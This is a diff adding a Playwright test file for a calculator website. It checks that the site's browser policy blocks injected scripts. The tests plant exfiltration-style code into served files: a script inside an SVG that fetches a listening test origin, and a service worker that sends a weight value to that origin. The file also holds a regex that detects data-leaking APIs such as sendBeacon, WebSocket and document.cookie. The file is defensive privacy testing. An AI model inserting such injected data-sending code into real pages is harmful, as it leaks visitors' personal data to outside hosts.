@@ -1,0 +1,143 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test as base, expect } from '@playwright/test';
+import type { Page } from '@playwright/test';
+import { enter, EXAMPLE, open } from './calculator.ts';
+import { listenElsewhere } from './policy-elsewhere.ts';
+import type { Elsewhere } from './policy-elsewhere.ts';
+import { plantedMarkup, plantedScript, PLANTS } from './policy-plants.ts';
+import { startWire } from './privacy-wire.ts';
+import type { Wire } from './privacy-wire.ts';
+
+/** A host whose files can be changed, under the policy of the real ones, and another that listens. */
+const test = base.extend<{ wire: Wire; elsewhere: Elsewhere }>({
+  wire: async ({ browserName: _ }, use) => {
+    const wire = await startWire('dist');
+    await use(wire);
+    await wire.close();
+  },
+  baseURL: async ({ wire }, use) => use(wire.origin),
+  elsewhere: async ({ browserName: _ }, use) => {
+    const elsewhere = await listenElsewhere();
+    await use(elsewhere);
+    await elsewhere.close();
+  },
+  serviceWorkers: 'allow',
+});
+
+/** The built file of an island. */
+const scriptOf = (island: string): string =>
+  `/_astro/${String(readdirSync('dist/_astro').find((file) => file.startsWith(`${island}.island.`) && file.endsWith('.js')))}`;
+
+interface Planted {
+  readonly plants: Readonly<Record<string, () => void>>;
+  readonly said: Readonly<Record<string, readonly string[]>>;
+}
+
+/** What the browser has said to a plant. */
+const saidTo = (page: Page, plant: string): Promise<readonly string[] | undefined> =>
+  page.evaluate((name) => (globalThis as unknown as Planted).said[name], plant);
+
+/** Playwright's own question about the title hangs on a form that was stopped. */
+const titleOf = (page: Page): Promise<string> => page.evaluate(() => document.title);
+
+test('whatever a script of the site itself tries to send or to load, the browser stops it', async ({
+  page,
+  wire,
+  elsewhere,
+}) => {
+  wire.change(scriptOf('HomeCalculator'), (body) => `${body}\n${plantedScript(elsewhere.origin)}`);
+  await open(page, '/');
+  await enter(page, { ...EXAMPLE, weight: '71.3' });
+  const address = page.url();
+  const title = await titleOf(page);
+  for (const { name, stoppedBy } of PLANTS) {
+    // Not at once: what a test evaluates is let past the policy, what it starts later is not.
+    await page.evaluate((plant) => {
+      setTimeout(() => (globalThis as unknown as Planted).plants[plant]?.());
+    }, name);
+    await expect.poll(() => saidTo(page, name), { message: name }).toContain(stoppedBy);
+  }
+  expect(page.url().replace(/#.*/u, '')).toBe(address);
+  expect(await titleOf(page)).toBe(title);
+  await page.waitForTimeout(500);
+  expect(elsewhere.heard).toEqual([]);
+  expect(wire.strange).toEqual([]);
+});
+
+test('whatever stands in the words of a page is not carried out', async ({ page, wire, elsewhere }) => {
+  wire.change('/faq', (body) => body.replace('<main', () => `${plantedMarkup(elsewhere.origin)}<main`));
+  await page.goto('/faq');
+  // Playwright would wait for the page that the form does not lead to.
+  await page
+    .getByRole('button', { name: 'Planted' })
+    .evaluate((button) => setTimeout(() => (button as HTMLButtonElement).click()));
+  await page.waitForTimeout(500);
+  expect(await titleOf(page)).not.toBe('planted');
+  expect(page.url()).toBe(`${wire.origin}/faq`);
+  expect(elsewhere.heard).toEqual([]);
+  expect(wire.strange).toEqual([]);
+});
+
+test('a drawing that is opened by itself runs no script and asks for nothing', async ({
+  page,
+  wire,
+  elsewhere,
+}) => {
+  const drawing = [...wire.files].find((path) => path.startsWith('/heroes/')) ?? '';
+  const planted = `<script>fetch('${elsewhere.origin}')</script><image href="${elsewhere.origin}/image"/></svg>`;
+  wire.change(drawing, (body) => body.replace('</svg>', planted));
+  await page.goto(drawing);
+  await page.waitForTimeout(300);
+  expect(elsewhere.heard).toEqual([]);
+});
+
+test('the offline worker can speak with this site and with nobody else', async ({
+  page,
+  wire,
+  elsewhere,
+}) => {
+  wire.change(
+    '/sw.js',
+    (body) =>
+      `${body}\naddEventListener('message', ({ data, source }) => {
+          if (data !== 'planted') return;
+          const tries = ['${elsewhere.origin}/?71.3', '/favicon.svg'].map((address) => fetch(address, { mode: 'no-cors' }).then(() => 'sent', () => 'refused'));
+          Promise.all(tries).then((results) => source.postMessage(results.join()));
+        });`,
+  );
+  await page.goto('/faq');
+  const answer = await page.evaluate(async () => {
+    await navigator.serviceWorker.register('/sw.js');
+    const { active } = await navigator.serviceWorker.ready;
+    return new Promise((done) => {
+      navigator.serviceWorker.addEventListener('message', ({ data }) => {
+        if (typeof data === 'string') done(data);
+      });
+      navigator.serviceWorker.startMessages();
+      active?.postMessage('planted');
+    });
+  });
+  expect(answer).toBe('refused,sent');
+  expect(elsewhere.heard).toEqual([]);
+});
+
+/**
+ * What no policy stops: a page may lead its visitor to another address, speak from browser to browser, or ask its own
+ * host for a picture under an address with a query. So nothing of the kind stands in any script of the site, and
+ * the walks of `privacy-walks.test.ts` see that nothing of it happens.
+ */
+const UNSTOPPABLE =
+  /\bRTCPeerConnection\b|\bwindow\.open\b|\blocation\.(?:assign|replace|href\s*=)|\blocation\s*=[^=]|\bnew Image\b|\bdocument\.cookie\b|\bsendBeacon\b|\bXMLHttpRequest\b|\bWebSocket\b|\bEventSource\b|rel="?(?:dns-prefetch|preconnect)/u;
+
+test('what no policy can stop stands in no script of the site', () => {
+  const files = readdirSync('dist', { recursive: true, encoding: 'utf8' }).filter((file) =>
+    /\.(?:js|html)$/u.test(file),
+  );
+  expect(files.length).toBeGreaterThan(50);
+  const found = files.flatMap((file) => {
+    const [hit] = UNSTOPPABLE.exec(readFileSync(join('dist', file), 'utf8')) ?? [];
+    return hit === undefined ? [] : [`${file}: ${hit}`];
+  });
+  expect(found).toEqual([]);
+});
